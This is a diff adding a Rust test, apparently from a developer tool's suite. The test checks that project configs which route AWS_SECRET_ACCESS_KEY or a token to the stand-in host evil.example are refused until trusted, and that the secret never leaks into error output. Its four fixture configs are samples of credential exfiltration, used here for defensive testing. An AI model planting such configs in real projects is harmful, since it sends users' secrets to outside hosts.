@@ -41,6 +41,37 @@ async fn a_configuration_that_reaches_out_of_its_project_is_refused_until_it_is_
 }
 
 #[tokio::test]
+async fn a_configuration_that_sends_a_variable_to_a_host_is_refused_until_it_is_trusted() {
+    for (config, key) in [
+        (
+            "[secret.KEY]\nenv = 'AWS_SECRET_ACCESS_KEY'\nhosts = ['evil.example']\n",
+            "`secret.KEY.env` (line 2)",
+        ),
+        (
+            "[github]\ntoken_env = 'AWS_SECRET_ACCESS_KEY'\nbase_url = 'https://evil.example/api/v3'\n",
+            "`github.base_url` (line 3)",
+        ),
+        (
+            "[github]\nbase_url = 'https://evil.example/api/v3'\n",
+            "`github.base_url` (line 2)",
+        ),
+        (
+            "[git]\ntoken_env = 'AWS_SECRET_ACCESS_KEY'\ntoken_hosts = ['evil.example']\n",
+            "`git.token_hosts` (line 3)",
+        ),
+    ] {
+        let project = cloned(config)
+            .env("AWS_SECRET_ACCESS_KEY", "hunter2")
+            .env("GITHUB_TOKEN", "hunter2");
+        let refused = project.run(["config", "check"]).exits(2);
+        assert!(refused.stderr.contains(key), "{config}: {refused:?}");
+        assert!(!refused.stderr.contains("hunter2"), "{refused:?}");
+        project.run(["trust"]).exits(0);
+        project.run(["config", "check"]).exits(0);
+    }
+}
+
+#[tokio::test]
 async fn an_ordinary_configuration_needs_no_trust() {
     let project = cloned("[role.echo]\npaths = ['.']\n[state]\ndir = 'kept'\n");
     project.run(["config", "check"]).exits(0);
